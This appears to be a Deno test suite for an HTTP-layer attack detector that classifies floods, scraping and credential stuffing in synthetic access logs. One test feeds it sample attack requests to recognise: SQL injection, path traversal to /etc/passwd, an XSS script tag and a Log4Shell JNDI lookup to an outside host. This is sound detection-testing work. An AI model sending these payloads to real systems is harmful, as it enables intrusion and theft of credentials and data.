// L7 detection over access logs: every subtype from synthetic combined logs, normal traffic
// raising nothing, the incident lifecycle (confirmation, calm, cooldown, no flapping), the
// event shape of the spec, and `ftagent replay-log`.
import { assert, assertEquals, assertMatch } from "../../support/assert.ts";
import { L7Detector, type L7DetectorConfig, L7Window, LogParser } from "../../../core/l7/mod.ts";
import { defaultConfig } from "../../../core/config/mod.ts";
import type { IncidentEvent } from "../../../core/detect/mod.ts";
import { l7MetricsBody } from "../../../core/report/mod.ts";
import { combinedLine, LogGenerator, type TrafficKind } from "../../support/access_logs.ts";
import { ftagent, jsonLines } from "../../support/cli.ts";

const T0 = 1795300000;

function detect(lines: string[], cfg: Partial<L7DetectorConfig> = {}) {
  const events: IncidentEvent[] = [];
  const d = new L7Detector({ ...defaultConfig(), ...cfg }, { onEvent: (e) => events.push(e) });
  const p = new LogParser("auto");
  for (const l of lines) {
    const r = p.parse(l);
    if (r !== null) d.add(r);
  }
  d.finish();
  assertEquals(p.rejectedTotal, 0);
  return { events, opens: events.filter((e) => e.event === "open"), detector: d };
}

const CASES: [TrafficKind, number, string][] = [
  ["volumetric", 400, "volumetric_flood"],
  ["single_source", 400, "single_source_abuse"],
  ["credential_stuffing", 300, "credential_stuffing"],
  ["scraping", 300, "scraping"],
  ["api_abuse", 400, "api_abuse"],
  ["cache_bypass", 400, "cache_bypass"],
  ["slow_rate", 20, "slow_rate"],
];

for (const [kind, rps, subtype] of CASES) {
  Deno.test(`L7Detector names a ${kind} attack ${subtype}, with its evidence`, () => {
    const lines = new LogGenerator(5).log(T0, 30, 30, kind, 20, rps, true);
    lines.push(...new LogGenerator(6).log(T0 + 50, 30, 30, "normal", 0, 0, true));
    const { events, opens } = detect(lines);
    assertEquals(opens.length, 1, events.map((e) => `${e.event} ${e.attack_subtype}`).join(", "));
    const open = opens[0];
    assertEquals(open.attack_family, "http_flood");
    assertEquals(open.attack_subtype, subtype);
    // Onset at T0+30: confirmed by the second suspicious second, events at its end.
    assertEquals(open.started_at, "2026-11-21T22:27:10.000000+00:00");
    assertEquals(open.detected_at, "2026-11-21T22:27:12.000000+00:00");
    const ev = open.evidence as { rule: string; summary: string; signal_seconds: object };
    assert(ev.rule.length > 0 && ev.summary.length > 0);
    assert(Object.keys(ev.signal_seconds).length >= 2, JSON.stringify(ev));
    const last = events[events.length - 1];
    assertEquals(last.event, "resolve");
    assertEquals(last.id, open.id);
    assertEquals(last.attack_subtype, subtype);
  });
}

Deno.test("L7Detector raises nothing on normal browsing, even busy, with bots and 404s", () => {
  const g = new LogGenerator(9);
  const lines: string[] = [];
  for (let s = 0; s < 120; s++) lines.push(...g.second(T0 + s, "normal", 40 + (s % 7) * 20, true));
  // A crawler walking the site at a polite pace, and a burst of normal traffic over the floor.
  for (let s = 0; s < 60; s++) {
    lines.push(
      combinedLine(
        T0 + s,
        "66.249.66.1",
        `GET /blog/post-${s} HTTP/1.1`,
        200,
        5120,
        "Googlebot/2.1",
      ),
    );
  }
  for (let s = 120; s < 126; s++) lines.push(...g.second(T0 + s, "normal", 180, true));
  lines.sort((a, b) => a.slice(a.indexOf("[")).localeCompare(b.slice(b.indexOf("["))));
  const { events } = detect(lines);
  assertEquals(events.length, 0, JSON.stringify(events[0]?.opened_by));
});

Deno.test("L7Detector needs several client addresses: one client alone opens nothing", () => {
  const lines: string[] = [];
  const g = new LogGenerator(3);
  for (let s = 0; s < 20; s++) {
    for (const l of g.second(T0 + s, "single_source", 500)) {
      if (l.startsWith("198.18.66.6 ")) lines.push(l);
    }
  }
  const { events } = detect(lines);
  assertEquals(events.length, 0);
  const { opens } = detect(lines, { l7_min_client_ips: 1 });
  assertEquals(opens.length, 1);
});

Deno.test("L7Detector: one suspicious second alone never opens; flapping traffic gives one incident", () => {
  const g = new LogGenerator(4);
  const lines: string[] = [];
  for (let s = 0; s < 30; s++) lines.push(...g.second(T0 + s, "normal", 30));
  lines.push(...g.second(T0 + 30, "volumetric", 500)); // a single-second spike
  for (let s = 31; s < 60; s++) lines.push(...g.second(T0 + s, "normal", 30));
  assertEquals(detect(lines).events.length, 0);
  // On 4 s, off 2 s, for a minute: calm periods shorter than l7_calm_seconds keep it open.
  const flap: string[] = [];
  for (let s = 0; s < 60; s++) {
    flap.push(...g.second(T0 + s, "normal", 30));
    if (s >= 10 && s % 6 < 4) flap.push(...g.second(T0 + s, "volumetric", 500));
  }
  for (let s = 60; s < 90; s++) flap.push(...g.second(T0 + s, "normal", 30));
  const { events, opens } = detect(flap);
  assertEquals(opens.length, 1);
  const resolve = events.find((e) => e.event === "resolve")!;
  assertEquals(resolve.ended_at, "2026-11-21T22:27:38.000000+00:00"); // the last flood second + 1
  assertEquals(resolve.duration_seconds, 46); // from the first flood second, T0 + 12
});

Deno.test("L7Detector keeps a cooldown after a resolve, then opens a new incident", () => {
  const g = new LogGenerator(8);
  const lines: string[] = [];
  const attack = (from: number, to: number) => {
    for (let s = from; s < to; s++) {
      lines.push(...g.second(T0 + s, "normal", 30), ...g.second(T0 + s, "cache_bypass", 400));
    }
  };
  for (let s = 0; s < 10; s++) lines.push(...g.second(T0 + s, "normal", 30));
  attack(10, 20); // resolves at 20 + calm 10 = 30; cooldown to 50
  for (let s = 20; s < 35; s++) lines.push(...g.second(T0 + s, "normal", 30));
  attack(35, 45); // inside the cooldown: nothing
  for (let s = 45; s < 60; s++) lines.push(...g.second(T0 + s, "normal", 30));
  attack(60, 70);
  const { opens } = detect(lines);
  assertEquals(opens.map((e) => e.started_at), [
    "2026-11-21T22:26:50.000000+00:00",
    "2026-11-21T22:27:40.000000+00:00",
  ]);
});

Deno.test("L7 incident events carry the spec's L7 fields", () => {
  const lines = new LogGenerator(5).log(T0, 10, 30, "volumetric", 12, 400, true);
  const events: IncidentEvent[] = [];
  const d = new L7Detector(defaultConfig(), { onEvent: (e) => events.push(e) });
  const p = new LogParser("combined");
  d.setL3L4Open(true);
  for (const l of lines) d.add(p.parse(l)!);
  d.finish();
  const kinds = events.map((e) => e.event);
  assertEquals(kinds, ["open", "update", "update", "resolve"]);
  const open = events[0];
  for (const k of ["peak_pps", "peak_bps", "baseline_pps"]) assertEquals(open[k], 0, k);
  assertEquals(open.rps, 430);
  assertEquals(open.peak_rps, 430);
  assertEquals(open.baseline_rps, 0); // the baseline needs 5 minutes
  assertEquals(open.correlated_l3l4, true);
  assertEquals(open.target, "interface");
  const paths = open.top_dst_ports as Record<string, number>;
  assert(paths["/"] > 700, JSON.stringify(paths));
  const status = open.l7_status_codes as Record<string, number>;
  assert(status["2xx"] > 0);
  assertEquals(typeof open.l7_error_rate, "number");
  assertEquals(Object.keys(open.l7_protocol_versions as object), ["1.1"]);
  assertEquals((open.l7_protocol_versions as Record<string, number>)["1.1"], 100);
  assert((open.l7_top_user_agents as Record<string, number>)["-"] > 700);
  const top = open.top_src_ips as { ip: string; count: number }[];
  assert(top.length > 0 && typeof top[0].ip === "string");
  assert((open.source_ip_count as number) > 500);
  const resolve = events[3];
  const curve = resolve.velocity_curve as { t: number; rps: number }[];
  assertEquals(curve.slice(0, 3), [{ t: T0 + 10, rps: 430 }, { t: T0 + 11, rps: 430 }, {
    t: T0 + 12,
    rps: 430,
  }]);
  assertEquals(resolve.duration_seconds, 12);
  assertEquals(resolve.ended_at, "2026-11-21T22:27:02.000000+00:00"); // the log's end
});

Deno.test("L7Detector learns a baseline; attack seconds never raise it", () => {
  const g = new LogGenerator(12);
  const lines: string[] = [];
  for (let s = 0; s < 360; s++) lines.push(...g.second(T0 + s, "normal", 80));
  const events: IncidentEvent[] = [];
  const cfg = { ...defaultConfig(), l7_rps_threshold: 50 };
  const d = new L7Detector(cfg, { onEvent: (e) => events.push(e) });
  const p = new LogParser("combined");
  const feed = (ls: string[]) => ls.forEach((l) => d.add(p.parse(l)!));
  feed(lines.slice(0, 80 * 200));
  assertEquals(d.threshold, 50); // not ready: the floor
  feed(lines.slice(80 * 200));
  assert(d.baseline.ready);
  assertEquals(d.threshold, 240); // p99 80 rps x 3 (medium)
  for (let s = 360; s < 400; s++) {
    feed([...g.second(T0 + s, "normal", 80), ...g.second(T0 + s, "volumetric", 600)]);
  }
  for (let s = 400; s < 420; s++) feed(g.second(T0 + s, "normal", 80));
  d.finish();
  assertEquals(events.filter((e) => e.event === "open").length, 1);
  assertEquals(events[0].baseline_rps, 80);
  assertEquals(d.threshold, 240);
});

Deno.test("L7Window memory stays bounded with a million distinct paths and clients", () => {
  const w = new L7Window();
  const r = new LogParser("combined").parse(
    '198.18.0.1 - - [22/Nov/2026:05:09:21 +0000] "GET / HTTP/1.1" 200 3 "-" "ua"',
  )!;
  for (let i = 0; i < 1_000_000; i++) {
    r.clientIp = `198.${18 + ((i >> 16) & 1)}.${(i >> 8) & 255}.${i & 255}`;
    r.path = `/p/${i}`;
    r.query = `r=${i}`;
    w.add(r);
  }
  const s = w.stats();
  assertEquals(s.requests, 1_000_000);
  assert(Math.abs(s.unique_ips - 131072) < 3000, String(s.unique_ips));
  assert(Math.abs(s.unique_paths - 1_000_000) < 50_000, String(s.unique_paths));
  assertEquals(s.top_paths.length, 10);
});

Deno.test("ftagent replay-log prints windows, the incident and a summary", async () => {
  const lines = new LogGenerator(5).log(T0, 10, 30, "credential_stuffing", 10, 300, true);
  lines.push("", "not a log line"); // the last line has no newline
  const dir = await Deno.makeTempDir({ prefix: "ftl7-replay-" });
  try {
    const file = `${dir}/access.log`;
    await Deno.writeTextFile(file, lines.join("\n"));
    const out = await ftagent(["replay-log", file, "--json"]);
    assertEquals(out.code, 0, out.stderr);
    const objs = jsonLines(out.stdout);
    const windows = objs.filter((o) => o.type === "window");
    assertEquals(windows.length, 20);
    assertEquals(windows[0].t, T0);
    assertEquals(windows[12].suspicious, true);
    const incidents = objs.filter((o) => o.type === "incident");
    assertEquals(incidents.map((o) => o.event), ["open", "update", "resolve"]);
    assertEquals(incidents[0].attack_subtype, "credential_stuffing");
    const summary = objs[objs.length - 1];
    assertEquals(summary.type, "summary");
    assertEquals(summary.lines, lines.length);
    assertEquals(summary.parsed, lines.length - 2);
    assertEquals(summary.rejected_by_reason, { "empty line": 1, "no [time] field": 1 });
    assertEquals(summary.format, "combined");
    assertEquals(summary.incidents, 1);
    const text = await ftagent(["replay-log", file, "--format", "combined"]);
    assertEquals(text.code, 0);
    assertMatch(text.stdout, /INCIDENT OPEN .* http_flood\/credential_stuffing .*login endpoints/);
    const wrong = await ftagent(["replay-log", file, "--format", "haproxy"]);
    assertEquals(wrong.code, 1);
    assertMatch(wrong.stderr, /no line of .* parsed as haproxy/);
    const missing = await ftagent(["replay-log", `${dir}/nope.log`]);
    assertEquals(missing.code, 1);
    assertMatch(missing.stderr, /^ftagent: error: cannot read .*nope\.log/);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("L7Window recognises attack patterns, tools, bots, login and API paths", () => {
  const w = new L7Window();
  const p = new LogParser("combined");
  const line = (req: string, ua: string, status = 200) =>
    p.parse(combinedLine(T0, "198.18.0.1", req, status, 10, ua, 0.1))!;
  const reqs: [string, string, number?][] = [
    ["GET /item?id=1%27%20OR%201=1-- HTTP/1.1", "sqlmap/1.7"],
    ["GET /item?id=1 UNION SELECT password FROM users HTTP/1.1", "curl/8.1"],
    ["GET /../../etc/passwd HTTP/1.1", ""],
    ["GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", "Mozilla/5.0"],
    ["GET /x?u=${jndi:ldap://198.18.0.9/a} HTTP/1.1", "Mozilla/5.0"],
    ["GET /.env HTTP/1.1", "Mozilla/5.0 (compatible; Nikto/2.1.6)", 404],
    ["POST /wp-login.php HTTP/1.1", "Mozilla/5.0", 401],
    ["GET /api/v2/orders?id=3 HTTP/2.0", "okhttp/4.12.0"],
    ["GET /blog/post-1?utm=x HTTP/1.1", "Mozilla/5.0 (compatible; Googlebot/2.1)"],
    ["GET /static/app.js HTTP/1.1", "Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0", 499],
  ];
  for (const [req, ua, status] of reqs) w.add(line(req, ua, status));
  const s = w.stats();
  assertEquals(s.threat_patterns, { sqli: 2, traversal: 1, xss: 1, cmd_injection: 1, scanner: 1 });
  assertEquals(s.threat_requests, 6);
  assertEquals(s.agents, {
    sqlmap: 1,
    curl: 1,
    "(empty)": 1,
    nikto: 1,
    java: 1,
    googlebot: 1,
  });
  assertEquals([s.tool_requests, s.bot_requests], [5, 1]);
  assertEquals([s.auth_requests, s.api_requests, s.status_auth_fail, s.status_499], [1, 1, 1, 1]);
  assertEquals(s.status_codes, { "2xx": 7, "4xx": 2, "499": 1 });
  assertEquals(s.error_rate, 30);
  assertEquals(s.protocol_versions, { "1.1": 9, "2": 1 });
  assertEquals(s.avg_response_ms, 100);
});

Deno.test("L7Detector.takeInterval and l7MetricsBody give the periodic /agent/l7/metrics body", () => {
  const d = new L7Detector(defaultConfig(), { onEvent: () => {} });
  assertEquals(d.takeInterval(), null);
  const p = new LogParser("combined");
  const g = new LogGenerator(30);
  for (let s = 0; s < 10; s++) {
    for (const l of g.second(T0 + s, "normal", 20, true)) d.add(p.parse(l)!);
  }
  d.add(p.parse(g.second(T0 + 10, "normal", 1)[0])!); // closes the tenth second
  const body = l7MetricsBody(d.takeInterval()!);
  assertEquals(body.window_seconds, 10);
  assertEquals(body.total_requests, 200);
  assertEquals(body.rps, 20);
  assertEquals(body.protocol_versions, { "1.1": 100 });
  assertEquals([body.h2_pct, body.h3_pct, body.bot_request_pct], [0, 0, 0]);
  const status = body.status_codes as Record<string, number>;
  assertEquals((status["2xx"] ?? 0) + (status["4xx"] ?? 0), 200);
  assertEquals(body.status_4xx, status["4xx"] ?? 0);
  assert(Object.keys(body.top_paths as object).length > 5);
  assert((body.unique_ips as number) > 50);
  assert((body.avg_response_ms as number) > 0);
  assertEquals(typeof body.rps_per_ip, "number");
  assertEquals(d.takeInterval(), null); // the next interval starts empty
});
